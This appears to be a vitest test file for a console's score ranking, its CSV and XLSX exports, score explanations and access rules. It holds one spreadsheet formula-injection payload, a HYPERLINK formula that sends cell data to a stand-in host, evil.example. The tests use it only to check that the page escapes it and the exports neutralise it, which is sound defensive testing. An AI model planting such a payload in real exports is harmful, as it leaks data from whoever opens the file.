// The console's score pages on a real fastify instance and a real SQLite store: the ranking by
// region with its chart, the CSV and XLSX exports (formula cells neutralised; the XLSX read back
// with Debian's unzip and an XML parser), the per-app explanation against `sjt score --explain`,
// and the role rules of GET /v1/scores.
import {execFileSync} from 'node:child_process'
import {mkdtempSync, writeFileSync} from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import type {FastifyInstance} from 'fastify'
import {parseDocument} from 'htmlparser2'
import {scoresConsole} from '../../src/review/console/scores.js'
import {appsConsole} from '../../src/review/console/apps.js'
import {crc32, columnName, xmlText} from '../../src/review/console/xlsx.js'
import type {Store} from '../../src/review/store.js'
import {sjt} from '../helpers/cli.js'
import {approve, consoleApp, submit} from './console-feature-deps.js'
import {makeTokens, OTHER_CODE, OWN_CODE, variant, type Tokens} from './helpers.js'

let app: FastifyInstance
let store: Store
let tk: Tokens
let tmp: string
/** The name a department could give its app to attack whoever opens the export in a spreadsheet. */
const EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"scores")'
const docs: Record<string, any> = {}

async function get(url: string, token: string, lang = 'zh-CN') {
  return app.inject({method: 'GET', url, headers: {'x-test-token': token, 'x-test-lang': lang}})
}

beforeAll(async () => {
  // Registered under /console, as the console's shell registers its features.
  ;({app, store} = await consoleApp([appsConsole, scoresConsole], {prefix: '/console'}))
  tk = await makeTokens(store)
  tmp = mkdtempSync(path.join(os.tmpdir(), 'sjt-console-scores-'))
  docs.a = variant({appId: 'ty-own-a', creditCode: OWN_CODE, regionCode: '140100'})
  // A failing finding: a lower total, so the ranking has an order.
  docs.b = variant({appId: 'dt-other-b', creditCode: OTHER_CODE, regionCode: '140200', fail: true})
  docs.c = variant({appId: 'ty-own-c', creditCode: OWN_CODE, regionCode: '140105'})
  docs.c.app.name = EVIL
  await approve(store, await submit(store, docs.a))
  await approve(store, await submit(store, docs.b))
  await approve(store, await submit(store, docs.c))
  // Registered, never approved: not ranked.
  await submit(store, variant({appId: 'ty-own-d', creditCode: OWN_CODE, regionCode: '140100'}))
})

afterAll(async () => {
  await app?.close()
  await store?.close()
})

const rankedIds = (body: string) => [...body.matchAll(/href="\/console\/scores\/([^"/]+)"/g)].map((m) => m[1])

describe('the ranking', () => {
  it('ranks approved apps with the five indices, a chart of one bar each and the export links', async () => {
    const r = await get('/console/scores', tk.auditor, 'en')
    expect(r.statusCode).toBe(200)
    const ids = rankedIds(r.body)
    expect(ids.sort()).toEqual(['dt-other-b', 'ty-own-a', 'ty-own-c'])
    const doc = parseDocument(r.body)
    const svg = findAll(doc, (e) => e.name === 'svg')[0]
    expect(svg.attribs['aria-labelledby']).toBe('chart-scores-t chart-scores-d')
    expect(findAll(svg, (e) => e.name === 'desc')).toHaveLength(1)
    expect(findAll(svg, (e) => e.name === 'rect' && /\bchart-bar\b/.test(e.attribs.class))).toHaveLength(3)
    // rank, region, app, total, grade, five indices, unknown
    const head = findAll(findAll(doc, (e) => e.name === 'thead')[0], (e) => e.name === 'th')
    expect(head).toHaveLength(11)
    expect(r.body).toContain('href="/console/scores.csv"')
    expect(r.body).toContain('href="/console/scores.xlsx"')
    // The app name is escaped in the page.
    expect(r.body).not.toContain(EVIL)
    expect(r.body).toContain('=HYPERLINK(&quot;https://evil.example/?x=&quot;&amp;A1,&quot;scores&quot;)')
  })

  it('ranks within a region and links each city', async () => {
    const r = await get('/console/scores?regionCode=1401', tk.reviewer)
    expect(rankedIds(r.body).sort()).toEqual(['ty-own-a', 'ty-own-c'])
    expect(r.body).toContain('href="/console/scores?regionCode=140200"')
    expect(r.body).toContain('href="/console/scores.csv?regionCode=1401"')
    expect((await get('/console/scores?regionCode=abc', tk.reviewer)).statusCode).toBe(400)
  })

  it('submitters and the monitor may not read the ranking (not found), nor its exports', async () => {
    for (const token of [tk.submitter, tk.monitor]) {
      for (const url of ['/console/scores', '/console/scores.csv', '/console/scores.xlsx']) expect((await get(url, token)).statusCode, url).toBe(404)
    }
  })
})

describe('exports', () => {
  let csv: string[][]

  it('CSV: the ranking as sjt score --format csv writes it, with the formula cell neutralised', async () => {
    const r = await get('/console/scores.csv', tk.auditor)
    expect(r.statusCode).toBe(200)
    expect(r.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/)
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="sjt-scores-all-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect(r.body.startsWith('\uFEFF')).toBe(true)
    csv = parseCsv(r.body.slice(1))
    expect(csv[0].slice(0, 7)).toEqual(['rank', 'region', 'app', 'name', 'total', 'grade', 'grade_id'])
    expect(csv).toHaveLength(4)
    const evil = csv.find((row) => row[2] === 'ty-own-c')!
    expect(evil[3]).toBe("'" + EVIL)
    // No cell of the file starts a formula.
    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    // The same ranking as the page: best first.
    expect(csv.slice(1).map((row) => Number(row[0]))).toEqual([...csv.slice(1).map((row) => Number(row[0]))].sort((a, b) => a - b))
  })

  it('XLSX: a valid workbook (unzip tests every CRC) holding the same cells, formula text marked as text', async () => {
    const r = await get('/console/scores.xlsx', tk.reviewer)
    expect(r.statusCode).toBe(200)
    expect(r.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const file = path.join(tmp, 'scores.xlsx')
    writeFileSync(file, r.rawPayload)
    expect(execFileSync('unzip', ['-t', file], {encoding: 'utf8'})).toMatch(/No errors detected/)
    expect(execFileSync('unzip', ['-Z1', file], {encoding: 'utf8'}).trim().split('\n').sort()).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml'])
    const types = parseDocument(execFileSync('unzip', ['-p', file, '[[]Content_Types].xml'], {encoding: 'utf8'}), {xmlMode: true})
    expect(findAll(types, (e) => e.name === 'Override').map((e) => e.attribs.PartName)).toContain('/xl/worksheets/sheet1.xml')
    const sheet = parseDocument(execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], {encoding: 'utf8'}), {xmlMode: true})
    expect(findAll(sheet, (e) => e.name === 'f')).toHaveLength(0)
    const rows = findAll(sheet, (e) => e.name === 'row').map((row) => findAll(row, (e) => e.name === 'c'))
    expect(rows).toHaveLength(csv.length)
    // Every cell as the CSV has it; numbers are numeric cells.
    rows.forEach((cells, i) => {
      const values = new Map(cells.map((c) => [c.attribs.r, c.attribs.t === 'inlineStr' ? textOf(c) : textOf(findAll(c, (e) => e.name === 'v')[0])]))
      csv[i].forEach((want, j) => expect(values.get(`${columnName(j)}${i + 1}`) ?? '', `${columnName(j)}${i + 1}`).toBe(want))
      if (i > 0) expect(cells.find((c) => c.attribs.r === `A${i + 1}`)!.attribs.t).toBeUndefined()
    })
    const evilCell = rows.flat().find((c) => textOf(c) === "'" + EVIL)!
    expect(evilCell.attribs.s).toBe('1')
    const styles = parseDocument(execFileSync('unzip', ['-p', file, 'xl/styles.xml'], {encoding: 'utf8'}), {xmlMode: true})
    const xfs = findAll(findAll(styles, (e) => e.name === 'cellXfs')[0], (e) => e.name === 'xf')
    expect(xfs[1].attribs.quotePrefix).toBe('1')
  })

  it('the zip and XML helpers: CRC-32 check value, column names, characters XML cannot carry', () => {
    expect(crc32(Buffer.from('123456789'))).toBe(0xcbf43926)
    expect([0, 25, 26, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA'])
    expect(xmlText('a\u0000b<\uD800c&')).toBe('ab&lt;c&amp;')
  })
})

describe('the score explanation', () => {
  it('is the content of sjt score --explain for the latest approved document', async () => {
    const file = path.join(tmp, 'a.json')
    writeFileSync(file, JSON.stringify(docs.a))
    const cli = await sjt(['score', file, '--explain', '--lang', 'en'])
    expect(cli.code, cli.stderr).toBe(0)
    const txt = await get('/console/scores/ty-own-a/explain.txt', tk.submitter, 'en')
    expect(txt.statusCode).toBe(200)
    expect(txt.headers['content-type']).toMatch(/^text\/plain/)
    expect(txt.body).toBe(cli.stdout)
    // The page shows the same terms and totals.
    const page = await get('/console/scores/ty-own-a', tk.submitter, 'en')
    expect(page.statusCode).toBe(200)
    const text = textOf(parseDocument(page.body))
    for (const m of cli.stdout.matchAll(/^ {2}\S \S+?: /gm)) {
      const id = m[0].trim().split(' ')[1].replace(/:$/, '')
      expect(text, id).toContain(id)
    }
    const total = /total (\d+\.\d)/.exec(cli.stdout)![1]
    expect(text).toContain(`total ${total}`)
    expect(page.body).toContain('href="/console/scores/ty-own-a/explain.txt"')
  })

  it('follows the app rules: another department\'s app is not found; the monitor reads no scores', async () => {
    expect((await get('/console/scores/dt-other-b', tk.submitter)).statusCode).toBe(404)
    expect((await get('/console/scores/dt-other-b/explain.txt', tk.submitter)).statusCode).toBe(404)
    expect((await get('/console/scores/ty-own-a', tk.monitor)).statusCode).toBe(404)
    expect((await get('/console/scores/dt-other-b', tk.auditor)).statusCode).toBe(200)
    // Not approved yet: the page says so.
    const d = await get('/console/scores/ty-own-d', tk.submitter, 'en')
    expect(d.statusCode).toBe(200)
    expect(d.body).toContain('No approved submission yet')
  })
})

function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') row.push(cell), (cell = '')
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  if (cell || row.length) rows.push([...row, cell])
  return rows
}

function findAll(node: any, test: (e: any) => boolean): any[] {
  const out: any[] = []
  const walk = (n: any) => {
    for (const c of n.children ?? []) {
      if (c.type === 'tag' && test(c)) out.push(c)
      walk(c)
    }
  }
  walk(node)
  return out
}

function textOf(n: any): string {
  if (n.type === 'text') return n.data
  return (n.children ?? []).map(textOf).join('')
}
